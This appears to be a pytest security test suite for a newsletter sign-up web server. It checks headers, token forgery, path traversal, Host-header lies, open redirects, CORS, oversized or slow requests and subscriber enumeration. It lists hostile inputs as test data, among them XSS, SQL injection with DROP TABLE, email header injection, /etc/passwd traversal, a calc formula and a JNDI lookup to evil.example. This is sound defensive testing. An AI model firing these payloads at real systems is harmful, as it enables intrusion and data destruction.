"""What attackers try at the pages of readers: over HTTP, at a real server with a real ledger."""

import http.client
import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime, timedelta
from itertools import count
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support.serving import Served, asking, serve, serve_impatiently
from support.site import CONFIG, Site, days_ago
from support.smtp import Server, smtp_server

from publisher.mail.tokens import (
    approval_token,
    confirm_token,
    leave_token,
    preferences_token,
    return_token,
    stamp,
)

HANAKO = "hanako@example.jp"
DAILY = """\
  daily:
    title: "台所だより <毎朝>"
    from: "tayori@midori.example"
    schedules: {daily: "7:00"}
web:
  url: "https://midori.example/mail/"
  trusted_proxies: [127.0.0.1]
  origins: ["https://blog.example"]
"""
_visitors = count(1)


class Attacked:
    """A running server and its site; `form` are the fields of a person's form, sent as one who has waited."""

    def __init__(self, site: Site, served: Served, client: httpx.Client, smtp: Server) -> None:
        self.site, self.served, self.client, self.smtp = site, served, client, smtp

    @property
    def secret(self) -> bytes:
        return bytes.fromhex(str(self.rows("SELECT value FROM meta WHERE key = 'secret'")[0][0]))

    def rows(self, query: str, *values: str) -> list[tuple[Any, ...]]:
        with closing(sqlite3.connect(self.site.folder / "publisher.db")) as ledger:
            return ledger.execute(query, values).fetchall()

    def statuses(self, email: str) -> list[str]:
        query = "SELECT status FROM subscriptions JOIN subscribers s ON s.id = subscriber_id WHERE s.email = ?"
        return [str(status) for (status,) in self.rows(query, email)]

    def form(self, **fields: str) -> dict[str, str]:
        shown = datetime.now(UTC) - timedelta(minutes=1)
        return {"email": HANAKO, "newsletter": "weekly", "stamp": stamp(self.secret, shown), **fields}

    def sign_up(self, **fields: str) -> httpx.Response:
        """From an address of the net that nobody had before."""
        number = next(_visitors)
        headers = {"x-forwarded-for": f"203.{number >> 16}.{number >> 8 & 255}.{number & 255}", "accept-language": "ja"}
        return self.client.post("/mail/subscribe", data=self.form(**fields), headers=headers)

    def raw(self, path: str, **headers: str) -> tuple[int, Any, bytes]:
        """What is answered to a path as it stands: other clients tidy it up."""
        connection = http.client.HTTPConnection(self.served.host, self.served.port, timeout=20)
        with closing(connection):
            connection.putrequest("GET", path, skip_host="host" in headers, skip_accept_encoding=True)
            for name, value in headers.items():
                connection.putheader(name.replace("_", "-"), value)
            connection.endheaders()
            answer = connection.getresponse()
            return answer.status, answer.headers, answer.read()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    with smtp_server() as smtp:
        site = Site(tmp_path_factory.mktemp("attacked") / "site", {"PUBLISHER_MAIL__TRANSPORT": smtp.url})
        site.write("config.yaml", CONFIG + DAILY)
        site.post("味噌を仕込む", days_ago(1), title="味噌を仕込む日", categories="庭, 本")
        site.ok("build")
        site.ok("subscriber", "add", HANAKO)
        served = serve(site)
        try:
            with asking(served) as client:
                yield Attacked(site, served, client, smtp)
        finally:
            site.stop()


def tokens(secret: bytes, email: str = HANAKO) -> dict[str, str]:
    """One of each kind that is signed as it should be, and good for nothing but its own page."""
    later = datetime.now(UTC) + timedelta(hours=1)
    return {
        "unsubscribe": leave_token(secret, "weekly", email),
        "approve": approval_token(secret, "f" * 32, later),
        "confirm": confirm_token(secret, "f" * 32, later),
        "preferences": preferences_token(secret, email, later),
        "return": return_token(secret, "weekly", email, later),
        "form": stamp(secret, later),
    }


PAGES = ["/mail/subscribe", "/subscribe", "/mail/subscribe.js", "/nowhere", "/mail/confirm/x", "/mail/preferences/x"]
PAGES += ["/mail/unsubscribe/x", "/mail/unsubscribe/x/one-click", "/mail/approve/x", "/healthz", "/feed.xml"]


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("method", ["GET", "POST", "PUT"])
def test_every_answer_has_the_headers_that_keep_it_safe(attacked: Attacked, path: str, method: str) -> None:
    answer = attacked.client.request(method, path)

    assert answer.status_code < 500
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert "set-cookie" not in answer.headers
    assert "location" not in answer.headers
    policy = answer.headers.get("content-security-policy", "")
    if answer.headers.get("content-type", "").startswith("text/html"):
        assert "default-src 'none'" in policy
        assert "frame-ancestors 'none'" in policy
        assert "base-uri 'none'" in policy
        assert "unsafe" not in policy


MARKUP = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
FIELDS = ["email", "newsletter", "category", "frequency", "language", "lang", "source", "stamp"]
HOSTILE = [
    MARKUP,
    "{{ 7 * 7 }}{% raw %}",
    "a@example.jp\r\nBcc: all@example.jp",
    "a@example.jp\nSubject: 当選",
    "%0d%0aBcc: all@example.jp",
    "' OR '1'='1' --",
    "'; DROP TABLE subscribers; --",
    "../../../etc/passwd",
    "\x00\x01\x1b[2J",
    "\u202egnp.exe\u2066",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "あ" * 2000,
    "a" * 4000 + "@",
    "a@" + "a." * 2000,
    "@" * 4000,
    "<" * 4000,
    '"' + "\\" * 3999,
]


@pytest.mark.parametrize(
    "field", ["email", "newsletter", "category", "frequency", "language", "lang", "source", "stamp"]
)
@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_what_is_typed_becomes_neither_code_nor_header(attacked: Attacked, field: str, value: str) -> None:
    answer = attacked.sign_up(**{field: value})

    assert answer.status_code in (200, 400, 422)
    assert MARKUP not in answer.text
    assert "<script>alert" not in answer.text
    assert "49{% raw" not in answer.text
    cells = [str(cell) for row in attacked.rows("SELECT * FROM sign_ups") for cell in row]
    assert not [cell for cell in cells if "\r" in cell or "\n" in cell]
    assert attacked.rows("SELECT count(*) FROM subscribers")[0][0] >= 1
    assert not [one for one in attacked.smtp.recipients if one not in (HANAKO,) and "all@" in one]


def test_an_address_that_looks_like_a_template_is_mailed_as_it_is(attacked: Attacked) -> None:
    odd = "{{7*7}}@example.jp"

    assert attacked.sign_up(email=odd).status_code == 200

    mail = attacked.smtp.until(odd)
    text = mail.get_body(("plain",))
    assert text
    assert odd in text.get_content()
    assert mail["To"] == odd


@pytest.mark.parametrize("page", ["unsubscribe", "approve", "confirm", "preferences"])
@pytest.mark.parametrize("kind", ["unsubscribe", "approve", "confirm", "preferences", "return", "form"])
def test_a_token_opens_its_own_page_alone(attacked: Attacked, page: str, kind: str) -> None:
    token = tokens(attacked.secret)[kind]
    path = f"/mail/{page}/{token}"
    before = attacked.rows("SELECT status, frequency, unsubscribed_at FROM subscriptions ORDER BY id")

    if page == kind:
        # The confirmation is of a sign-up that is gone, the approval of no issue.
        assert attacked.client.get(path).status_code == {"confirm": 410, "approve": 404}.get(kind, 200)
        return
    answers = [attacked.client.get(path), attacked.client.post(path, data={"leave": "all", "decision": "send"})]

    assert {one.status_code for one in answers} == {404}
    assert attacked.rows("SELECT status, frequency, unsubscribed_at FROM subscriptions ORDER BY id") == before


@pytest.mark.parametrize("page", ["unsubscribe", "preferences"])
def test_a_token_that_was_touched_opens_nothing(attacked: Attacked, page: str) -> None:
    token = tokens(attacked.secret)[page]
    other = tokens(b"\x01" * 32)[page]
    said, _, signature = token.partition(".")
    someone = tokens(attacked.secret, "taro@example.jp")[page].partition(".")[0]
    touched = [
        token[:-1],
        token[1:],
        f"{said}.",
        f".{signature}",
        f"{said}.{'A' * 43}",
        f"{someone}.{signature}",
        other,
    ]
    touched += [f"{token}A", f"{token}=", token.swapcase(), f"{said}.{signature[::-1]}", f"{token}.{signature}"]

    assert {attacked.client.get(f"/mail/{page}/{one}").status_code for one in touched} == {404}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    fields=st.dictionaries(st.sampled_from(["email", "newsletter", "category", "stamp", "x"]), st.text(max_size=50)),
    body=st.none() | st.binary(max_size=200),
    kind=st.sampled_from(["application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "text/plain", ""]),
)
def test_no_body_makes_the_server_fail(
    attacked: Attacked, fields: dict[str, str], body: bytes | None, kind: str
) -> None:
    content = httpx.QueryParams(fields).__str__().encode() if body is None else body
    path = "/mail/preferences/" + tokens(attacked.secret)["preferences"] if "x" in fields else "/mail/subscribe"

    answer = attacked.client.post(path, content=content, headers={"content-type": kind} if kind else {})

    assert answer.status_code < 500


TRAVERSALS = [
    "/../publisher.db",
    "/..%2fpublisher.db",
    "/%2e%2e/publisher.db",
    "/%2e%2e%2fconfig.yaml",
    "/..%5cconfig.yaml",
    "/..%255cconfig.yaml",
    "/category/../../config.yaml",
    "/category/%2e%2e/%2e%2e/publisher.db",
    "/newsletters/weekly/../../../publisher.db",
    "/newsletters/%2e%2e%2f%2e%2e%2fpublisher.db",
    "/mail/../../publisher.db",
    "//etc/passwd",
    "/feed.xml%00.html",
    "/feed.xml/../../config.yaml",
    "/%c0%ae%c0%ae/config.yaml",
    "/.well-known/../config.yaml",
    "/publisher.db",
    "/config.yaml",
    "/ids.json",
    "/posts/%E5%91%B3%E5%99%8C%E3%82%92%E4%BB%95%E8%BE%BC%E3%82%80.md",
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_nothing_but_what_is_for_the_world_is_served(attacked: Attacked, path: str) -> None:
    status, headers, body = attacked.raw(path)

    assert status in (400, 404)
    assert b"SQLite format" not in body
    assert b"newsletters:" not in body
    assert "location" not in headers


@pytest.mark.parametrize("path", ["/mail/subscribe", "/feeds/", "//evil.example/%2e%2e", "/mail/subscribe/", "/mail"])
def test_who_lies_about_the_host_is_led_nowhere(attacked: Attacked, path: str) -> None:
    lies = {"host": "evil.example", "x_forwarded_host": "evil.example", "forwarded": "host=evil.example"}

    status, headers, body = attacked.raw(path, **lies)

    assert status < 500
    assert b"evil.example" not in body
    assert not [value for value in headers.values() if "evil.example" in value]


@pytest.mark.parametrize("name", ["next", "redirect", "redirect_to", "return_to", "url", "continue"])
def test_nobody_is_sent_elsewhere(attacked: Attacked, name: str) -> None:
    evil = "https://evil.example/"

    answers = [
        attacked.client.get(f"/mail/subscribe?{name}={evil}"),
        attacked.sign_up(email="nobody@", **{name: evil}),
    ]

    assert all(one.status_code < 300 or one.status_code >= 400 for one in answers)
    assert all("location" not in one.headers and "evil.example" not in one.text for one in answers)


def test_pages_of_others_may_not_speak_for_readers(attacked: Attacked) -> None:
    page = f"/mail/preferences/{tokens(attacked.secret)['preferences']}"

    strange = [
        attacked.client.post("/mail/subscribe", data={}, headers={"origin": "https://evil.example"}),
        attacked.client.get(page, headers={"origin": "https://blog.example"}),
        attacked.client.get("/mail/subscribe", headers={"origin": "null"}),
    ]
    known = attacked.client.get("/mail/subscribe", headers={"origin": "https://blog.example"})

    assert all("access-control-allow-origin" not in one.headers for one in strange)
    assert known.headers["access-control-allow-origin"] == "https://blog.example"
    assert "access-control-allow-credentials" not in known.headers


def test_too_much_is_turned_away(attacked: Attacked) -> None:
    form = {"content-type": "application/x-www-form-urlencoded"}

    assert attacked.client.post("/mail/subscribe", content=b"a" * 200_000, headers=form).status_code == 413
    assert attacked.client.post("/mail/subscribe", content=b"a=&" * 2000, headers=form).status_code in (400, 413)
    status, _, _ = attacked.raw("/mail/subscribe", x=("a" * 60_000))
    assert status in (200, 431)


def test_who_sends_a_form_drop_by_drop_is_cut_off(attacked: Attacked) -> None:
    served = serve_impatiently(attacked.site, 1, 1, 5)
    connection = http.client.HTTPConnection(served.host, served.port, timeout=20)
    with closing(connection):
        connection.putrequest("POST", "/mail/subscribe")
        connection.putheader("content-type", "application/x-www-form-urlencoded")
        connection.putheader("content-length", "1000")
        connection.endheaders(b"email=")

        with pytest.raises((http.client.HTTPException, OSError)):
            connection.getresponse()


def test_nobody_learns_who_reads_what(attacked: Attacked) -> None:
    """By what they are told: those who are new, read already, have left, are suppressed in any way, or forgotten."""
    reads, left, refused, gone = (f"{name}@example.jp" for name in ("yomu", "yameta", "kyohi", "wasure"))
    for address in (reads, left, refused, gone):
        attacked.site.ok("subscriber", "add", address)
    attacked.site.ok("subscriber", "remove", left)
    attacked.site.ok("suppress", "add", refused)
    attacked.site.ok("subscriber", "forget", gone, "--yes")
    new = "atarashi@example.jp"

    answers = {one: attacked.sign_up(email=one) for one in (new, new, reads, left, refused, gone)}

    told = {re.sub(r"[\w.]+\.[\w-]{43}", "", one.text.replace(address, "")) for address, one in answers.items()}
    assert len(told) == 1
    assert {one.status_code for one in answers.values()} == {200}
    headers = [{name: value for name, value in one.headers.items() if name != "date"} for one in answers.values()]
    lengths = {int(one.headers["content-length"]) - address.__len__() for address, one in answers.items()}
    assert len({tuple(sorted(one.items() - {("content-length", one["content-length"])})) for one in headers}) == 1
    assert len(lengths) == 1
    attacked.smtp.until(left)
    assert not {refused, gone} & set(attacked.smtp.recipients)


def test_nobody_learns_by_the_time_what_an_address_is(attacked: Attacked) -> None:
    """Known, new, and a program that fell into the trap: all wait for the same beat."""
    attacked.sign_up(email=HANAKO)
    asked = [{"email": HANAKO}, {"email": "beat@example.jp"}, {"email": "beat@example.jp", "website": "x"}]

    answers = [attacked.sign_up(**one) for one in asked]

    assert [one.status_code for one in answers] == [200] * 3
    assert all(one.elapsed.total_seconds() >= 0.1 for one in answers)


def test_a_confirmation_is_spent_by_being_used(attacked: Attacked) -> None:
    address = "ichido@example.jp"
    attacked.sign_up(email=address)
    text = attacked.smtp.until(address).get_body(("plain",))
    assert text
    link = re.search(r"https://midori\.example(/mail/confirm/\S+)", text.get_content())
    assert link

    looked = [attacked.client.get(link[1]) for _ in range(3)]
    assert attacked.statuses(address) == ["unconfirmed"]
    confirmed = attacked.client.post(link[1], data={"confirm": "yes"})
    attacked.client.post(f"/mail/unsubscribe/{leave_token(attacked.secret, 'weekly', address)}", data={"leave": "this"})
    replayed = attacked.client.post(link[1], data={"confirm": "yes"})

    assert {one.status_code for one in (*looked, confirmed, replayed)} == {200}
    assert attacked.statuses(address) == ["unsubscribed"]
